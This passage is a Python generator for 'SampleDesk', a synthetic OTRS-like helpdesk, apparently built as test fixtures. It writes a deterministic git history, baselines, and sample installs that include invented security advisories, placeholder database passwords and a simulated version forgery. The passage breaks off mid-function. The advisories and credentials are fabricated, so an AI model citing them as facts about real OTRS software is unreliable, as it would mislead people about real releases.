#!/usr/bin/env python3
"""Generate the SampleDesk sample product, its baselines and the sample installs.

SampleDesk is a synthetic product laid out like an OTRS 6/7 install (RELEASE
with PRODUCT/VERSION lines, Kernel/, Kernel/Config.pm, Custom/, bin/,
scripts/, var/ ...). Every file is written by this script (nothing is copied
from OTRS). Its history is a git repository with one tag per release, built
deterministically (fixed authors and dates), so the commit ids and therefore
the baselines are the same on every machine.

    python sample_installs/generate.py            # regenerate everything
    python sample_installs/generate.py --check    # verify the committed files are current

Writes: baselines/sampledesk/<version>.yaml and sample_installs/<name>/.
"""

from __future__ import annotations

import argparse
import hashlib
import os
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
sys.path.insert(0, str(HERE))
import sampledesk_config as sdc  # noqa: E402  (the configuration formats: SysConfig XML, ZZZAAuto.pm)
import sampledesk_database as sdb  # noqa: E402  (the database: schema and initial data per engine)
PRODUCT = "SampleDesk"
PRODUCT_ID = "sampledesk"

# ---------------------------------------------------------------------------
# releases and what changed in each
# ---------------------------------------------------------------------------

RELEASES = [
    ("6.0.1", "2017-11-21", "Tue Nov 21 09:12:44 2017"),
    ("6.0.2", "2017-12-05", "Tue Dec  5 10:03:17 2017"),
    ("6.0.3", "2017-12-19", "Tue Dec 19 11:47:02 2017"),
    ("6.0.4", "2018-01-16", "Tue Jan 16 08:55:31 2018"),
    ("6.0.5", "2018-02-13", "Tue Feb 13 14:20:09 2018"),
    ("7.0.1", "2018-07-03", "Tue Jul  3 09:41:56 2018"),
    ("7.0.2", "2018-08-07", "Tue Aug  7 12:30:40 2018"),
    ("7.0.3", "2018-09-18", "Tue Sep 18 10:05:12 2018"),
]
VERSIONS = [r[0] for r in RELEASES]


def vt(v: str) -> tuple[int, ...]:
    return tuple(int(x) for x in v.split("."))


@dataclass
class Fix:
    """A change in one release: a bug or security fix touching some files."""

    version: str
    ref: str          # bug#NNNNN or advisory id
    text: str
    files: list[str]
    advisory: str | None = None


FIXES = [
    Fix("6.0.2", "bug#13347", "Internal article information disclosed by the customer ticket search.",
        ["Kernel/Modules/CustomerTicketSearch.pm", "Kernel/System/Ticket/TicketSearch.pm"], "SDSA-2017-01"),
    Fix("6.0.2", "bug#13357", "Improved handling of PGP parameters.", ["Kernel/System/Crypt/PGP.pm"]),
    Fix("6.0.2", "bug#13360", "Queue view sorted escalated tickets last.", ["Kernel/Modules/AgentTicketQueue.pm"]),
    Fix("6.0.3", "bug#13366", "Improved parameter appending.", ["Kernel/Output/HTML/Layout.pm"], "SDSA-2017-02"),
    Fix("6.0.3", "bug#13372", "Statistics export lost the time zone.", ["Kernel/System/Stats.pm"]),
    Fix("6.0.4", "bug#13401", "Customer could see internal articles in the ticket overview.",
        ["Kernel/Modules/CustomerTicketOverview.pm", "Kernel/Output/HTML/Templates/Standard/CustomerTicketOverview.tt"],
        "SDSA-2018-01"),
    Fix("6.0.4", "bug#13410", "Ticket merge kept the old owner.", ["Kernel/System/Ticket.pm"]),
    Fix("6.0.4", "bug#13415", "Updated jQuery to 3.4.1.", []),
    Fix("6.0.5", "bug#13450", "Session stayed valid after the agent was set invalid.",
        ["Kernel/System/AuthSession/DB.pm"], "SDSA-2018-02"),
    Fix("6.0.5", "bug#13455", "Stored XSS in the reply form.", ["Kernel/Modules/AgentTicketCompose.pm"], "SDSA-2018-03"),
    Fix("6.0.5", "bug#13461", "Added setting DisableLoginAutocomplete.",
        ["Kernel/Config/Defaults.pm", "Kernel/Config/Files/XML/Framework.xml", "Kernel/Output/HTML/Templates/Standard/Login.tt"]),
    Fix("7.0.1", "feature", "New REST web application, the 'modern' skin, DBUpdate-to-7.pl.", []),
    Fix("7.0.2", "bug#14012", "API allowed reading tickets of other customers.",
        ["Kernel/WebApp/Controller/API/Customer/Ticket.pm"], "SDSA-2018-04"),
    Fix("7.0.2", "bug#14020", "Escalation times ignored the calendar.", ["Kernel/System/Ticket.pm"]),
    Fix("7.0.3", "bug#14077", "Mail header injection through a crafted From field.",
        ["Kernel/System/Email.pm", "Kernel/Modules/AgentTicketCompose.pm"], "SDSA-2018-05"),
    Fix("7.0.3", "bug#14081", "Daemon did not restart after a database outage.", ["bin/sampledesk.Daemon.pl"]),
]


def fixes_up_to(version: str, path: str) -> list[Fix]:
    return [f for f in FIXES if vt(f.version) <= vt(version) and path in f.files]


def h(*parts: str) -> int:
    return int(hashlib.sha256("\0".join(parts).encode()).hexdigest(), 16)


def pick(seq, *key: str):
    return seq[h(*key) % len(seq)]


WORDS = ["Ticket", "Article", "Queue", "User", "Group", "Customer", "State", "Priority", "Service", "SLA",
         "Link", "Attachment", "Escalation", "History", "Watcher", "Lock", "Owner", "Responsible", "Type",
         "Calendar", "Template", "Signature", "Salutation", "Notification", "Permission", "Preference"]
VERBS = ["Get", "Add", "Update", "Delete", "List", "Search", "Lookup", "Exists", "Merge", "Sync"]

HEADER = """# --
# Copyright (C) 2001-2017 SampleDesk Project, https://sampledesk.example/
# --
# This software comes with ABSOLUTELY NO WARRANTY. For details, see
# the enclosed file COPYING for license information (GPL). If you
# did not receive this file, see https://www.gnu.org/licenses/gpl-3.0.txt.
# --
"""


def perl_module(path: str, version: str) -> str:
    package = path[:-3].replace("/", "::")
    subs = []
    n = 3 + h(path, "n") % 6
    for i in range(n):
        name = pick(VERBS, path, str(i), "v") + pick(WORDS, path, str(i), "w")
        needed = sorted({pick(WORDS, path, str(i), str(j)) + "ID" for j in range(2)}) + ["UserID"]
        body = [f"sub {name} {{",
                "    my ( $Self, %Param ) = @_;",
                "",
                "    # check needed stuff",
                f"    for my $Needed (qw({' '.join(needed)})) {{",
                "        if ( !$Param{$Needed} ) {",
                "            $Kernel::OM->Get('Kernel::System::Log')->Log(",
                "                Priority => 'error',",
                "                Message  => \"Need $Needed!\",",
                "            );",
                "            return;",
                "        }",
                "    }",
                ""]
        for j in range(2 + h(path, str(i), "l") % 5):
            w = pick(WORDS, path, str(i), "s", str(j))
            body.append(f"    my ${w}Data = $Self->_{w}Cache( {w}ID => $Param{{{needed[0]}}} ) // {{}};")
        for fix in fixes_up_to(version, path):
            if h(fix.ref, path) % n == i:
                body += ["", f"    # {fix.ref}: {fix.text}",
                         f"    return if !$Self->_Check{pick(WORDS, fix.ref, 'c')}( %Param, Strict => 1 );"]
        body += ["", "    return 1;", "}", ""]
        subs.append("\n".join(body))
    deps = sorted({"Kernel::Config", "Kernel::System::DB", "Kernel::System::Log",
                   f"Kernel::System::{pick(WORDS, path, 'dep')}"})
    out = [HEADER, f"package {package};", "", "use strict;", "use warnings;", "",
           "our @ObjectDependencies = (", *[f"    '{d}'," for d in deps], ");", "",
           "sub new {", "    my ( $Type, %Param ) = @_;", "", "    my $Self = {};",
           "    bless( $Self, $Type );", "", "    return $Self;", "}", "", *subs, "1;", ""]
    return "\n".join(out)


def perl_script(path: str, version: str) -> str:
    name = path.rsplit("/", 1)[-1]
    lines = ["#!/usr/bin/env perl", HEADER, "use strict;", "use warnings;", "",
             "use File::Basename;", "use FindBin qw($RealBin);", "use lib dirname($RealBin);",
             "use lib dirname($RealBin) . '/Kernel/cpan-lib';", "use lib dirname($RealBin) . '/Custom';", "",
             "use Kernel::System::ObjectManager;", "",
             "local $Kernel::OM = Kernel::System::ObjectManager->new(",
             f"    'Kernel::System::Log' => {{ LogPrefix => '{name}' }},", ");", ""]
    for j in range(4 + h(path) % 8):
        lines.append(f"my ${pick(WORDS, path, str(j))}Count = $Kernel::OM->Get('Kernel::System::"
                     f"{pick(WORDS, path, str(j), 'o')}')->{pick(VERBS, path, str(j))}();")
    for fix in fixes_up_to(version, path):
        lines += [f"# {fix.ref}: {fix.text}", "$Kernel::OM->Get('Kernel::System::DB')->Ping( Reconnect => 1 );"]
    lines += ["", "exit 0;", ""]
    return "\n".join(lines)


def template(path: str, version: str) -> str:
    name = path.rsplit("/", 1)[-1][:-3]
    lines = [f"# --\n# {name}.tt - SampleDesk template\n# Copyright (C) 2001-2017 SampleDesk Project\n# --", "",
             f'<div class="MainBox {name}">']
    for j in range(5 + h(path) % 10):
        w = pick(WORDS, path, str(j))
        lines.append(f'    <div class="Field"><label>[% Translate("{w}") | html %]</label>'
                     f'[% Data.{w}String %]</div>')
    for fix in fixes_up_to(version, path):
        lines.append(f"    [%# {fix.ref}: {fix.text} %]")
        lines.append("    [% IF Data.IsVisibleForCustomer %][% Data.Body | html %][% END %]")
    if name == "Login" and vt(version) >= vt("6.0.5"):
        lines.append('    <input type="password" name="Password" [% IF Config("DisableLoginAutocomplete") %]'
                     'autocomplete="off"[% END %]/>')
    lines += ["</div>", ""]
    return "\n".join(lines)


def javascript(path: str, version: str) -> str:
    name = path.rsplit("/", 1)[-1][:-3]
    lines = ["// --", "// Copyright (C) 2001-2017 SampleDesk Project, https://sampledesk.example/", "// --", "",
             '"use strict";', "", "var Core = Core || {};", f"Core.{name.replace('.', '_')} = (function (TargetNS) {{"]
    for j in range(4 + h(path) % 10):
        w = pick(WORDS, path, str(j))
        lines += [f"    TargetNS.{pick(VERBS, path, str(j))}{w} = function ($Element) {{",
                  f"        return $Element.find('.{w}').data('{w.lower()}-id');", "    };"]
    lines += ["    return TargetNS;", f"}}(Core.{name.replace('.', '_')} || {{}}));", ""]
    return "\n".join(lines)


def css(path: str, version: str) -> str:
    lines = ["/* Copyright (C) 2001-2017 SampleDesk Project */"]
    for j in range(6 + h(path) % 12):
        w = pick(WORDS, path, str(j))
        color = "#%06x" % (h(path, str(j), "c") % 0xFFFFFF)
        lines.append(f".{w}Box .{pick(WORDS, path, str(j), 'x')} {{ color: {color}; margin: {j}px; }}")
    return "\n".join(lines) + "\n"


def xml_settings_of(path: str, version: str) -> list:
    if path.endswith("/Framework.xml"):
        return sdc.framework(version, PRODUCT)
    return sdc.other(path, version, WORDS, pick, h)


def xml_settings(path: str, version: str) -> str:
    return sdc.xml_file(xml_settings_of(path, version))


def db_schema(path: str, version: str) -> str:
    lines = ['<?xml version="1.0" encoding="utf-8" ?>', '<database Name="sampledesk">']
    tables = ["ticket", "article", "queue", "users", "groups" if vt(version) < vt("7.0.0") else "groups_table",
              "customer_user", "sessions", "sysconfig_default", "gi_webservice_config", "package_repository"]
    for t in tables:
        lines += [f'    <Table Name="{t}">', '        <Column Name="id" Required="true" PrimaryKey="true" Type="BIGINT"/>',
                  '        <Column Name="create_time" Required="true" Type="DATE"/>', "    </Table>"]
    lines += ["</database>", ""]
    return "\n".join(lines)


# ---------------------------------------------------------------------------
# default configuration (Kernel/Config/Defaults.pm): the official defaults
# ---------------------------------------------------------------------------

def defaults_pm(version: str) -> str:
    """Defaults.pm holds what is not a SysConfig setting (as in OTRS): database, paths, back ends."""
    s = [HEADER, "package Kernel::Config::Defaults;", "",
         f"# {PRODUCT} {version} default configuration. Do not edit: override",
         "# settings in Kernel/Config.pm or through the system configuration.", "",
         "use strict;", "use warnings;", "use utf8;", "", "sub LoadDefaults {", "    my $Self = shift;", "",
         "    # database",
         "    $Self->{DatabaseHost} = 'localhost';",
         "    $Self->{Database}     = 'sampledesk';",
         "    $Self->{DatabaseUser} = 'sampledesk';",
         "    $Self->{DatabasePw}   = 'some-pass';",
         "    $Self->{DatabaseDSN}  = \"DBI:mysql:database=<OTRS_CONFIG_Database>;host=<OTRS_CONFIG_DatabaseHost>;\";",
         "", "    # home",
         "    $Self->{Home} = '/opt/sampledesk';", "",
         "    # sessions",
         "    $Self->{SessionModule} = 'Kernel::System::AuthSession::DB';",
         "    $Self->{SessionName}   = 'SampleDeskAgentInterface';",
         "    $Self->{AgentSessionLimit}    = 100;",
         "    $Self->{CustomerSessionLimit} = 100;", "",
         "    # agent authentication",
         "    $Self->{AuthModule} = 'Kernel::System::Auth::DB';",
         "    # password crypt type (bcrypt|sha2|sha1|md5|apr1|crypt|plain)",
         "#    $Self->{'AuthModule::DB::CryptType'} = 'sha2';",
         "    $Self->{'AuthModule::DB::bcryptCost'} = 12;",
         "#    $Self->{AuthModule} = 'Kernel::System::Auth::LDAP';",
         "#    $Self->{'AuthModule::LDAP::Host'} = 'ldap.example.com';", "",
         "    # customer authentication",
         "    $Self->{'Customer::AuthModule'} = 'Kernel::System::CustomerAuth::DB';",
         "    $Self->{'Customer::AuthModule::DB::Table'} = 'customer_user';",
         "    $Self->{'LostPassword'} = 1;", "",
         "    # maximum session time, counted from the login",
         "    $Self->{'WebMaxFileUpload'} = 24 * 1024 * 1024;",
         "", "    return;", "}", "", "1;", ""]
    return "\n".join(s)


def config_pm_dist(version: str) -> str:
    return "\n".join([HEADER, "package Kernel::Config;", "", "use strict;", "use warnings;", "use utf8;", "",
                      "sub Load {", "    my $Self = shift;", "",
                      "    # database settings",
                      "    $Self->{'DatabaseHost'} = '127.0.0.1';",
                      "    $Self->{'Database'} = 'sampledesk';",
                      "    $Self->{'DatabaseUser'} = 'sampledesk';",
                      "    $Self->{'DatabasePw'} = 'some-pass';",
                      "    $Self->{DatabaseDSN} = \"DBI:mysql:database=$Self->{Database};host=$Self->{DatabaseHost};\";",
                      "",
                      "    # fs root directory",
                      "    $Self->{Home} = '/opt/sampledesk';",
                      "", "    return 1;", "}", "",
                      "use Kernel::Config::Defaults; # import Translatable()",
                      "use parent qw(Kernel::Config::Defaults);", "", "1;", ""])


# ---------------------------------------------------------------------------
# the file list of a release
# ---------------------------------------------------------------------------

SYSTEM_MODULES = ["Ticket", "Ticket/Article", "Ticket/TicketSearch", "Ticket/Event/Escalation", "User", "Group",
                  "Queue", "State", "Priority", "Service", "SLA", "CustomerUser", "CustomerCompany",
                  "Auth", "Auth/DB", "Auth/LDAP", "CustomerAuth/DB", "AuthSession", "AuthSession/DB",
                  "Email", "Email/Sendmail", "Email/SMTP", "PostMaster", "PostMaster/Filter/Match", "WebUserAgent",
                  "Package", "SysConfig", "Cache", "DB", "Log", "Main", "Encode", "Time", "DateTime", "Stats",
                  "Crypt/PGP", "Crypt/SMIME", "LinkObject", "GenericAgent", "Scheduler", "Daemon/DaemonModules/SchedulerTaskWorker",
                  "CloudService/Backend/Run", "SupportDataCollector", "SupportBundleGenerator", "Calendar",
                  "Calendar/Appointment", "DynamicField", "FAQ", "Loader", "Web/Request", "JSON", "YAML"]
FRONTEND_6 = ["AgentTicketZoom", "AgentTicketCompose", "AgentTicketForward", "AgentTicketQueue", "AgentTicketSearch",
              "AgentTicketPhone", "AgentTicketEmail", "AgentDashboard", "AgentPreferences", "AdminSysConfig",
              "AdminUser", "AdminGroup", "AdminQueue", "AdminGenericInterfaceWebservice", "AdminPackageManager",
              "Installer", "Login", "CustomerTicketOverview", "CustomerTicketSearch", "CustomerTicketZoom",
              "CustomerTicketMessage", "PublicFAQ", "PublicRepository"]
FRONTEND_7_DROPPED = {"CustomerTicketOverview", "CustomerTicketSearch", "CustomerTicketZoom", "CustomerTicketMessage",
                      "PublicFAQ", "PublicRepository"}
TEMPLATES = ["Login", "Footer", "Header", "AgentTicketZoom", "AgentTicketCompose", "AgentDashboard", "AdminSysConfig",
             "CustomerTicketOverview", "CustomerHeader", "CustomerFooter", "HTTPHeaders", "Notify", "Error", "Warning",
             "PreferencesGeneric", "AgentTicketQueue"]
GI = ["Transport/HTTP/REST", "Transport/HTTP/SOAP", "Invoker/Test/Test", "Invoker/Test/TestSimple",
      "Operation/Ticket/TicketCreate", "Operation/Ticket/TicketGet", "Operation/Ticket/TicketSearch",
      "Operation/Session/SessionCreate", "Mapping/Simple", "Mapping/XSLT", "Event/Handler", "Requester", "Provider",
      "Debugger"]
JS = ["Core.App", "Core.AJAX", "Core.Form", "Core.Form.Validate", "Core.UI", "Core.UI.Dialog", "Core.UI.Table",
      "Core.Agent", "Core.Agent.TicketZoom", "Core.Agent.Dashboard", "Core.Customer", "Core.Debug", "Core.Config",
      "Core.Exception", "Core.Data", "Core.Agent.Admin.SysConfig", "Core.Agent.Search", "Core.UI.RichTextEditor"]
CSS = ["Core.Default", "Core.Form", "Core.Table", "Core.Dialog", "Core.Header", "Core.Footer", "Core.Dashboard",
       "Core.TicketZoom"]
DBUPDATE6 = ["Base", "FrameworkVersionCheck", "DatabaseBackupCheck", "PerlModulesCheck", "UpgradeDatabaseStructure",
             "MigrateConfigEffectiveValues", "RebuildConfig", "MigrateArticleData", "MigrateWebServiceConfiguration",
             "UninstallMergedFeatureAddOns", "ACLDeploy", "ProcessDeploy", "InvalidSettingsCheck"]
DBUPDATE7 = ["Base", "FrameworkVersionCheck", "DatabaseBackupCheck", "PerlModulesCheck", "UpgradeDatabaseStructure",
             "MigrateGroupsTable", "MigrateSessions", "RebuildConfig", "MigrateWebServiceConfiguration",
             "InvalidSettingsCheck"]
WEBAPP = ["Controller/API/Customer/Ticket", "Controller/API/Customer/Article", "Controller/API/Public/Package/Repository",
          "Controller/API/Public/FAQ", "Controller/API/Agent/Session", "Server", "Util/Auth"]


def release_files(version: str) -> dict[str, tuple[str, int]]:
    """path -> (content, mode) of one release as it is in the git repository."""
    v7 = vt(version) >= vt("7.0.0")
    files: dict[str, tuple[str, int]] = {}

    def add(path, content, mode=0o644):
        files[path] = (content, mode)

    for m in SYSTEM_MODULES:
        add(f"Kernel/System/{m}.pm", perl_module(f"Kernel/System/{m}.pm", version))
    for m in FRONTEND_6:
        if v7 and m in FRONTEND_7_DROPPED:
            continue
        add(f"Kernel/Modules/{m}.pm", perl_module(f"Kernel/Modules/{m}.pm", version))
    if v7:
        for m in ["AgentTicketBulk", "AdminAppointmentImport"]:
            add(f"Kernel/Modules/{m}.pm", perl_module(f"Kernel/Modules/{m}.pm", version))
        for m in WEBAPP:
            add(f"Kernel/WebApp/{m}.pm", perl_module(f"Kernel/WebApp/{m}.pm", version))
        add("Kernel/WebApp.conf", "{\n    hypnotoad => { listen => ['http://*:8080'], workers => 4 },\n}\n")
    for t in TEMPLATES:
        if v7 and t.startswith("Customer"):
            continue
        path = f"Kernel/Output/HTML/Templates/Standard/{t}.tt"
        add(path, template(path, version))
    add("Kernel/Output/HTML/Layout.pm", perl_module("Kernel/Output/HTML/Layout.pm", version))
    add("Kernel/Output/HTML/Preferences/Password.pm", perl_module("Kernel/Output/HTML/Preferences/Password.pm", version))
    add("Kernel/Output/HTML/FilterText/URL.pm", perl_module("Kernel/Output/HTML/FilterText/URL.pm", version))
    for g in GI:
        add(f"Kernel/GenericInterface/{g}.pm", perl_module(f"Kernel/GenericInterface/{g}.pm", version))
    for lang in ["de", "en", "fr", "es", "pt_BR"]:
        add(f"Kernel/Language/{lang}.pm", perl_module(f"Kernel/Language/{lang}.pm", "6.0.1" if not v7 else "7.0.1"))
    add("Kernel/Autoload/README", "Perl modules here are loaded by AutoloadPerlPackages.\n")
    add("Kernel/Config.pm.dist", config_pm_dist(version))
    add("Kernel/Config/Defaults.pm", defaults_pm(version))
    add("Kernel/Config/Files/README", "Files in this directory are loaded at every configuration load.\n")
    for x in ["Framework", "Ticket", "Daemon", "GenericInterface", "ProcessManagement", "Calendar"] + (
            [] if v7 else ["CloudServices"]):
        path = f"Kernel/Config/Files/XML/{x}.xml"
        add(path, xml_settings(path, version))
    add("Kernel/cpan-lib/README", "Bundled CPAN modules.\n")
    for cp in ["JSON/PP.pm", "YAML/XS.pm", "Mojo/Base.pm" if v7 else "CGI/Fast.pm"]:
        add(f"Kernel/cpan-lib/{cp}", perl_module(f"Kernel/cpan-lib/{cp}", "6.0.1"))

    # bin/
    for b in ["sampledesk.Console.pl", "sampledesk.Daemon.pl", "sampledesk.CheckSum.pl",
              "sampledesk.SetPermissions.pl", "sampledesk.CheckModules.pl", "sampledesk.PostMaster.pl"]:
        add(f"bin/{b}", perl_script(f"bin/{b}", version), 0o755)
    add("bin/Cron.sh", "#!/bin/sh\n# Starts or stops the SampleDesk cron jobs.\nCRON_USER=sampledesk\n"
        "crontab -u $CRON_USER $SAMPLEDESK_HOME/var/cron/*\n", 0o755)
    cgi = ["index.pl", "installer.pl", "rpc.pl", "nph-genericinterface.pl"] + ([] if v7 else ["customer.pl", "public.pl"])
    for c in cgi:
        add(f"bin/cgi-bin/{c}", perl_script(f"bin/cgi-bin/{c}", version), 0o755)
    if v7:
        add("bin/sampledesk.WebServer.pl", perl_script("bin/sampledesk.WebServer.pl", version), 0o755)

    # scripts/
    add("scripts/backup.pl", perl_script("scripts/backup.pl", "6.0.1"), 0o755)
    add("scripts/restore.pl", perl_script("scripts/restore.pl", "6.0.1"), 0o755)
    add("scripts/apache2-httpd.include.conf",
        "ScriptAlias /sampledesk/ \"/opt/sampledesk/bin/cgi-bin/\"\nAlias /sampledesk-web/ "
        "\"/opt/sampledesk/var/httpd/htdocs/\"\n")
    add("scripts/database/sampledesk-schema.xml", db_schema("schema", version))
    add("scripts/database/sampledesk-initial_insert.xml", db_schema("insert", "6.0.1"))
    if v7:      # the schema and initial data per database engine, as OTRS / Znuny releases ship them
        for engine, sql in sdb.SCHEMA.items():
            add(f"scripts/database/schema.{engine}.sql", sql.lstrip())
            add(f"scripts/database/schema-post.{engine}.sql", sdb.SCHEMA_POST)
            add(f"scripts/database/initial_insert.{engine}.sql", sdb.initial_insert())
    if v7:
        add("scripts/DBUpdate-to-7.pl", perl_script("scripts/DBUpdate-to-7.pl", version), 0o755)
        for s in DBUPDATE7:
            add(f"scripts/DBUpdateTo7/{s}.pm", perl_module(f"scripts/DBUpdateTo7/{s}.pm", version))
    else:
        add("scripts/DBUpdate-to-6.pl", perl_script("scripts/DBUpdate-to-6.pl", version), 0o755)
        for s in DBUPDATE6:
            add(f"scripts/DBUpdateTo6/{s}.pm", perl_module(f"scripts/DBUpdateTo6/{s}.pm", version))

    # var/
    jq = "jquery-3.2.1" if vt(version) < vt("6.0.4") else ("jquery-3.4.1" if not v7 else "jquery-3.5.1")
    add(f"var/httpd/htdocs/js/thirdparty/{jq}/jquery.js",
        f"/*! jQuery {jq[7:]} | (c) JS Foundation and other contributors | jquery.org/license */\n"
        + "".join(f"!function(a,b){{\"use strict\";var c{i}=[];}}(window);\n" for i in range(40 + h(jq) % 20)))
    add("var/httpd/htdocs/js/thirdparty/ckeditor-4.7.0/ckeditor.js", "/* CKEditor 4.7.0 */\nwindow.CKEDITOR={};\n")
    for j in JS:
        add(f"var/httpd/htdocs/js/{j}.js", javascript(f"var/httpd/htdocs/js/{j}.js", version if j == "Core.App" else "6.0.1"))
    skins = ["default", "ivory", "slim"] + (["modern"] if v7 else [])
    for skin in skins:
        for c in CSS:
            path = f"var/httpd/htdocs/skins/Agent/{skin}/css/{c}.css"
            add(path, css(path, version if skin == "modern" else "6.0.1"))
    if not v7:
        for c in CSS[:4]:
            path = f"var/httpd/htdocs/skins/Customer/default/css/{c}.css"
            add(path, css(path, "6.0.1"))
    add("var/httpd/htdocs/index.html", "<html><head><meta http-equiv=\"refresh\" content=\"0; URL=/sampledesk/index.pl\">"
        "</head></html>\n")
    add("var/cron/aaa_base.dist", "# SampleDesk cron base\nSHELL=/bin/bash\nMAILTO=\"\"\n")
    add("var/cron/sampledesk_daemon.dist", "*/5 * * * * $HOME/bin/sampledesk.Daemon.pl start >> /dev/null\n")
    add("var/log/README", "Log files are written here.\n")
    add("var/tmp/README", "Temporary files.\n")
    add("var/article/README", "Articles are stored here with ArticleStorageFS.\n")
    add("var/stats/README", "Statistic definitions.\n")
    add("var/sessions/README", "Sessions with the FS backend.\n")

    # i18n, Custom, top level
    for lang in ["de", "fr", "es"]:
        add(f"i18n/sampledesk/sampledesk.{lang}.po", f"# SampleDesk translation ({lang})\nmsgid \"\"\nmsgstr \"\"\n"
            + "".join(f'msgid "{w}"\nmsgstr "{w[::-1]}"\n' for w in WORDS))
    add("Custom/README", "Files in Custom/ override the files of the same path in the framework.\n"
        "Only use this for local, documented changes.\n")
    add("COPYING", "GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007\n(full text at https://www.gnu.org/licenses/gpl-3.0.txt)\n")
    add("README.md", f"# {PRODUCT}\n\nA helpdesk. See https://sampledesk.example/doc/ for installation and updates.\n")
    add("CHANGES.md", changes_md(version))
    add(".procmailrc.dist", "SYS_HOME=$HOME\nPATH=/bin:/usr/bin:/usr/local/bin:$SYS_HOME/bin\n")
    add("RELEASE", release_text(version))
    archive = "".join(f"{hashlib.md5(c.encode()).hexdigest()}::{p}\n" for p, (c, _) in sorted(files.items())
                      if not p.startswith(".") and p != "ARCHIVE")
    add("ARCHIVE", archive)
    return files


def release_text(version: str) -> str:
    date = dict((r[0], r[2]) for r in RELEASES)[version]
    return f"PRODUCT = {PRODUCT}\nVERSION = {version}\nBUILDDATE = {date}\nBUILDHOST = build.sampledesk.example\n"


def changes_md(version: str) -> str:
    out = []
    for v, date, _ in reversed(RELEASES):
        if vt(v) > vt(version):
            continue
        out.append(f"#{v} {date}")
        for f in FIXES:
            if f.version == v:
                out.append(f" - {date} {f.ref}: {f.text}" + (f" ({f.advisory})" if f.advisory else ""))
        out.append("")
    return "\n".join(out)


# ---------------------------------------------------------------------------
# the git repository
# ---------------------------------------------------------------------------

def _git(repo: Path, *args: str, env: dict | None = None) -> str:
    full_env = dict(os.environ, GIT_CONFIG_NOSYSTEM="1", HOME=str(repo), LC_ALL="C", **(env or {}))
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True,
                          env=full_env).stdout


def build_repo(path: Path) -> Path:
    """The SampleDesk history: two commits per release, a tag v<version> on each release commit.

    Authors, committers and dates are fixed, so every machine gets the same commit ids.
    """
    if path.exists():
        shutil.rmtree(path)
    path.mkdir(parents=True)
    _git(path, "init", "-q", "-b", "main")
    _git(path, "config", "core.filemode", "true")
    _git(path, "config", "core.autocrlf", "false")
    current: dict[str, tuple[str, int]] = {}
    release_meta = {"RELEASE", "CHANGES.md", "ARCHIVE"}
    for version, day, _ in RELEASES:
        target = release_files(version)
        # first the code changes of the release, then the release commit (RELEASE, CHANGES.md, ARCHIVE)
        code = {p: v for p, v in target.items() if p not in release_meta}
        notes = "".join(f"- {f.ref}: {f.text}\n" for f in FIXES if f.version == version)
        for n, (wanted, message) in enumerate([(code, f"Changes for {version}.\n\n{notes}"),
                                              (target, f"Prepare for release {version}.")]):
            keep = set(wanted) | (release_meta & set(current) if n == 0 else set())
            for p in sorted(set(current) - keep):
                (path / p).unlink()
                del current[p]
            for p, (content, mode) in sorted(wanted.items()):
                if current.get(p) == (content, mode):
                    continue
                f = path / p
                f.parent.mkdir(parents=True, exist_ok=True)
                f.write_text(content, encoding="utf-8")
                os.chmod(f, mode)
                current[p] = (content, mode)
            stamp = f"{day}T{10 + n:02d}:00:00+0100"
            env = {"GIT_AUTHOR_NAME": "SampleDesk Release Team", "GIT_AUTHOR_EMAIL": "release@sampledesk.example",
                   "GIT_COMMITTER_NAME": "SampleDesk Release Team", "GIT_COMMITTER_EMAIL": "release@sampledesk.example",
                   "GIT_AUTHOR_DATE": stamp, "GIT_COMMITTER_DATE": stamp}
            _git(path, "add", "-A", env=env)
            _git(path, "commit", "-q", "--allow-empty", "-m", message, env=env)
        _git(path, "tag", f"v{version}")
    return path


# ---------------------------------------------------------------------------
# sample installs
# ---------------------------------------------------------------------------

def checkout(version: str) -> dict[str, tuple[bytes, int]]:
    return {p: (c.encode(), m) for p, (c, m) in release_files(version).items()}


#: What the official installer sets when it finishes (SecureMode, the site's identity).
INSTALLER = {"SecureMode": "1", "FQDN": "helpdesk.example.com", "SystemID": "42", "HttpType": "https",
             "Organization": "Example Corp"}


def deployed(files: dict[str, tuple[bytes, int]], version: str) -> dict:
    """The effective value of every valid setting of the release's XML, as a deployment writes them."""
    xml = {p: xml_settings_of(p, version) for p in files
           if p.startswith("Kernel/Config/Files/XML/") and p.endswith(".xml")}
    return sdc.deployed_values(xml)


def deploy(files: dict[str, tuple[bytes, int]], values: dict) -> None:
    files["Kernel/Config/Files/ZZZAAuto.pm"] = (sdc.zzzaauto(values).encode(), 0o660)


def installed_values(files: dict[str, tuple[bytes, int]], version: str, hardened: bool = True) -> dict:
    """The deployed settings of an install: the release's defaults, what the installer sets and,
    on a hardened install, two-factor authentication and a password policy."""
    values = deployed(files, version)
    values.update(INSTALLER)
    if hardened:
        values["AuthTwoFactorModule"] = "Kernel::System::Auth::TwoFactor::GoogleAuthenticator"
        values["AuthTwoFactorModule::AllowEmptySecret"] = "0"
        pw = values["PreferencesGroups###Password"] = dict(values["PreferencesGroups###Password"])
        pw.update(PasswordMinSize="12", PasswordMaxLoginFailed="5")
    return values


def install_local(files: dict[str, tuple[bytes, int]], version: str, hardened: bool = True) -> None:
    """What the official installer and a running system add: Config.pm, ZZZAAuto.pm, logs, sessions."""
    dist = files["Kernel/Config.pm.dist"][0].decode()
    cfg = dist.replace("'some-pass'", "'Xq7-pR2w-db'")
    files["Kernel/Config.pm"] = (cfg.encode(), 0o640)
    deploy(files, installed_values(files, version, hardened))
    files["var/cron/sampledesk_daemon"] = files["var/cron/sampledesk_daemon.dist"]
    files["var/log/sampledesk.log"] = (b"[Tue Mar 6 10:00:01 2018][Notice][Kernel::System::Daemon] started\n", 0o640)
    files["var/sessions/a1b2c3d4"] = (b"UserLogin=root@localhost\n", 0o600)
    files["var/tmp/CacheFileStorable/Ticket/0/1/cache"] = (b"\x00cache", 0o640)
    files["var/httpd/htdocs/js/js-cache/CommonJS_4f1a.js"] = (b"/* cache */\n", 0o644)


def dress_up(files, real: str, claimed: str) -> None:
    """A grey-market vendor's version forgery: every version string says ``claimed``."""
    major_c = claimed.split(".")[0]
    files["RELEASE"] = (release_text(claimed).encode(), 0o644)
    files["CHANGES.md"] = (changes_md(real).replace(f"#{real} ", f"#{claimed} ", 1).encode(), 0o644)
    d = files["Kernel/Config/Defaults.pm"][0].decode()
    d = d.replace(f"{PRODUCT} {real} default", f"{PRODUCT} {claimed} default")
